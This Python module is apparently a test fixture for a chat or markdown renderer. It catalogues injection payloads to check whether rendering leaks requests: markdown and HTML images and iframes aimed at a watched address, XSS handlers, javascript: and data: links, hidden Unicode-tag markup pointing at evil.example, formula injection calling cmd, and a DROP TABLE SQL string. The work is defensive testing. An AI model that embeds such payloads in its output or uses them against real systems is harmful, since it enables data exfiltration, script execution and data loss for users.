"""Texts of our own that would do something where a renderer lets them: fetch, run, link, draw, or hide.

SINK stands for an address that a test watches; the payload's name is its last part, so that a leak says whose it is.
evil.example stands where a bare address is to become a link: nobody answers there, and a browser test sees the request.
"""

from __future__ import annotations

SINK = "SINK"
TAGS = "".join(chr(0xE0000 + ord(sign)) for sign in "![a](http://evil.example)")
RUN = "window.__pwned=1"

IMAGES = {
    "image": "![a](SINK)",
    "image-titled": '![a](SINK "title")',
    "image-angle": "![a](<SINK>)",
    "image-empty": "![](SINK)",
    "image-reference": "![a][r]\n\n[r]: SINK",
    "image-collapsed": "![r][]\n\n[r]: SINK",
    "image-shortcut": "![r]\n\n[r]: <SINK> 'title'",
    "image-in-link": "[![a](SINK)](SINK)",
    "image-in-image": "![![a](SINK)](SINK)",
    "image-in-heading": "# ![a](SINK)",
    "image-in-bold": "**![a](SINK)** _![b](SINK)_",
    "image-in-list": "- ![a](SINK)\n1. ![b](SINK)",
    "image-in-table": "| a |\n|---|\n| ![a](SINK) |",
    "image-in-quote": "> ![a](SINK)",
    "image-in-directive": ":red[![a](SINK)]",
    "image-after-backslash": "\\![a](SINK) \\\\![b](SINK) \\\\\\![c](SINK)",
    "image-after-backtick": "`` ` ![a](SINK)",
    "image-after-bracket": "]]) ![a](SINK)",
    "image-by-entity": "&#33;&#91;a](SINK) &excl;[b](SINK)",
    "image-over-lines": "!\\\n[a\n](SINK)",
    "image-after-crlf": "x\r\n\r\n![a](SINK)\r![b](SINK)",
    "image-after-u2028": "x\u2028\u2028![a](SINK)\u2029![b](SINK)",
    "image-round-nul": "!\x00[a]\x00(SINK)",
    "image-round-zero-width": "!\u200b[a]\u2060(SINK)\ufeff",
    "image-round-bidi": "!\u202e[a]\u2066(SINK)",
    "image-schemeless": "![a](//evil.example/leak) ![b](\\\\evil.example\\leak)",
    "image-upper": "![a](HTTP://EVIL.EXAMPLE/leak)",
}
HTML = {
    "img": "<img src=SINK>",
    "img-onerror": f'<img src="SINK" onerror="{RUN}">',
    "img-srcset": '<img srcset="SINK 1x">',
    "img-unclosed": '<img src="SINK"',
    "img-after-close": "</p></div></div><img src=SINK>",
    "img-in-comment": "<!-- --><img src=SINK><!-- -->",
    "img-in-cdata": "<![CDATA[<img src=SINK>]]>",
    "img-by-entity": "&lt;img src=SINK&gt; &#60;img src=SINK&#62;",
    "svg": f'<svg onload="{RUN}"><image href="SINK"/><use href="SINK#a"/></svg>',
    "picture": '<picture><source srcset="SINK"><img></picture>',
    "iframe": '<iframe src="SINK"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": '<object data="SINK"></object>',
    "embed": '<embed src="SINK">',
    "video": '<video src="SINK" poster="SINK" autoplay></video>',
    "audio": '<audio src="SINK" autoplay></audio>',
    "script": f"<script>{RUN}</script>",
    "script-src": '<script src="SINK"></script>',
    "style-url": '<p style="background:url(SINK)">x</p>',
    "style-import": '<style>@import "SINK"; * { background: url(SINK) }</style>',
    "stylesheet": '<link rel=stylesheet href="SINK">',
    "prefetch": '<link rel="prefetch" href="SINK"><link rel="dns-prefetch" href="//evil.example">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=SINK">',
    "base": '<base href="SINK/">',
    "form": f'<form action="SINK"><input autofocus onfocus="{RUN}"><button>go</button></form>',
    "details": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "body-background": '<body background="SINK"><table background="SINK">',
    "alert": "<script>alert(1)</script><svg><script>alert(2)</script></svg>",
}
LINKS = {
    "link": "[a](SINK)",
    "link-titled": "[a](SINK 'title')",
    "link-reference": "[a][r] [r]\n\n[r]: SINK",
    "link-html": '<a href="SINK" ping="SINK">a</a>',
    "autolink-angle": "<SINK> <http://evil.example/> <a@evil.example>",
    "autolink": "SINK http://evil.example/a https://evil.example/b HTTPS://evil.example (http://evil.example).",
    "autolink-www": "www.evil.example WWW.evil.example *www.evil.example* wWw.evil.example/path?q=1#f",
    "autolink-mail": "a.b+c@evil.example mailto:a@evil.example xmpp:a@evil.example/x",
    "autolink-idn": "http://xn--e1aybc.example http://пример.example https://evil。example",
    "schemeless": "//evil.example/a \\\\evil.example\\b http:/evil.example http:\\\\evil.example ftp://evil.example",
    "javascript": f"[a](javascript:{RUN}) <javascript:{RUN}> javascript:alert(1) [b](JaVa&#x09;script:alert(1))",
    "data": "[a](data:text/html,<script>alert(1)</script>) ![b](data:image/svg+xml,<svg onload=alert(1)>)",
    "vbscript": "[a](vbscript:msgbox(1)) [b](file:///etc/passwd) [c](steam://run/1)",
}
STREAMLIT = {
    "icon": ":material/skull: \\:material/skull\\: :material_skull:",
    "logo": ":streamlit: \\:streamlit:",
    "emoji": ":skull: :+1: :-1: :large_blue_circle:",
    "colours": ":red[r] :rainbow[r] :violet-background[v] :color[c]{foreground=red background=blue}",
    "badges": ":red-badge[b] :orange-badge[:material/skull: b] :badge[b]",
    "directives": ":small[s] :shimmer[s] :help[h] ::leaf[l]{#i .c} :::note\nx\n:::",
    "directive-close": "]]]] :red[x]] }} {color=red}",
    "latex": r"$x^2$ $\href{SINK}{x}$ $\includegraphics{SINK}$ $\htmlData{a=b}{x}$ $\url{SINK}$",
    "latex-block": "$$\n\\includegraphics[width=1em]{SINK}\n$$",
    "mermaid": '```mermaid\ngraph TD; A-->B; click A "SINK"\n```',
    "arrows": "a -> b <- c <-> d -- e >= f <= g ~= h => i",
}
MARKDOWN = {
    "headings": "# one\n## two\nthree\n===\nfour\n---",
    "heading-lines": "=",
    "lists": "- a\n* b\n+ c\n1. d\n2) e\n- [x] f",
    "rules": "---\n***\n___",
    "table": "| a | b |\n|:--|--:|\n| 1 | 2 |",
    "code": "```js\nalert(1)\n```\n~~~\nx\n~~~\n    four spaces",
    "backticks": "` `` ``` `x` ``",
    "emphasis": "*a* **b** _c_ __d__ ***e*** ~f~ ~~g~~ **",
    "footnote": "a[^1]\n\n[^1]: b SINK",
    "brackets": "[[[[a]]]](((( ![[a](b) [](<>)",
    "entities": "&lt;b&gt; &amp; &#x3C;i&#x3E; &nbsp;&copy; &NewLine;# x",
    "comment": "a <!-- b --> c <? d ?> <!DOCTYPE x>",
    "breaks": "a  \nb\\\nc\n\nd",
    "front-matter": "---\nlayout: x\n---\n# y",
}
SIGNS = {
    "bidi": "ab\u202ecd\u202c \u2067ef\u2069 \u200fgh",
    "right-to-left": "שלום (1) مرحبا",
    "zero-width": "fa\u200brm\u2060 fri\u00adends\ufeff",
    "tags": f"game{TAGS} over",
    "accents": "z" + "\u0301\u0348\u035c" * 40 + "algo",
    "control": "a\x00b\x07c\x7fd\x9be",
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
    "long-word": "x" * 2000,
    "emoji-joined": "👩\u200d👩\u200d👧 🏴\u200d☠\ufe0f 1\ufe0f\u20e3",
    "fillers": "a\u3164b\u115fc\u2800d",
    "white-space": "a\u00a0b\u3000c\td\x0be\x85f\r\ng",
}
TEMPLATES = {
    "braces": "{{7*7}} {0} {text.__class__} {} {{{",
    "percent": "%s%n%x %(name)s %%",
    "dollars": "${7*7} $HOME `id` $(id) #{7*7} <%= 7*7 %>",
    "formula": '=HYPERLINK("SINK";"x")',
    "formula-signs": "@SUM(1) +1+cmd|' /C calc'!A0",
    "sql": "'; DROP TABLE turns; --",
    "json": '"}],"__proto__":{"x":1}\\u003cscript\\u003e',
}
PAYLOADS = {**IMAGES, **HTML, **LINKS, **STREAMLIT, **MARKDOWN, **SIGNS, **TEMPLATES}
"""Text by name, with SINK in it."""


def aimed(sink: str) -> dict[str, str]:
    """The payloads with the address of a sink; each asks for its own name there."""
    return {name: text.replace(SINK, f"{sink}/{name}") for name, text in PAYLOADS.items()}
